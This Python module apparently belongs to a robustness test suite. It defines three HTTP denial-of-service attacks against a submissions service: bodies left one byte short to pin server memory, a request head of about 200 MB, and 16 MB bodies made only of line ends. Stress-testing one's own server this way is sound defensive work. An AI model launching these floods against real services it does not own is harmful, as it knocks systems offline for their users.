"""Attacks on HTTP itself: heads and bodies that do not end, too many of anything, requests that are wrong."""

from __future__ import annotations

import asyncio
from collections import Counter

from attacks_target import Attack, Target, Wire

SUBMISSION = b"POST /v1/submissions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
BATCH = b"POST /v1/submissions:batch HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
BATCH_BYTES = 16 * 1024 * 1024


async def bodies_one_byte_short(target: Target) -> str:
    """Batches of the largest size, each without its last byte: what is held for them is held for nobody else."""

    async def once(wire: Wire) -> None:
        await wire.send(BATCH % BATCH_BYTES + b"x" * (BATCH_BYTES - 1))
        await wire.until_closed()

    return f"{await target.at_once(16, once)} of 16 ended"


async def head_without_end(target: Target) -> str:
    """One request whose head goes on for 200 MB."""

    async def once(wire: Wire) -> None:
        await wire.send(b"GET /livez HTTP/1.1\r\nHost: x\r\n")
        for number in range(50):
            await wire.send(b"".join(b"x-%d-%d: %s\r\n" % (number, n, b"y" * 4_000) for n in range(1_000)))
        await wire.until_closed()

    return f"{await target.at_once(4, once)} of 4 ended"


async def batches_of_line_ends(target: Target) -> str:
    """16 MB of line ends: nothing in it, and everything to split."""
    body = BATCH % BATCH_BYTES + b"\n" * BATCH_BYTES
    answers: Counter[int] = Counter()

    async def once(wire: Wire) -> None:
        await wire.send(body)
        answers[await wire.status()] += 1
        await asyncio.sleep(0)

    done = await target.over_and_over(2, once)
    return f"{done} sent, answered {dict(answers)}"


HTTP_ATTACKS: dict[str, Attack] = {
    attack.__name__: attack for attack in (bodies_one_byte_short, head_without_end, batches_of_line_ends)
}
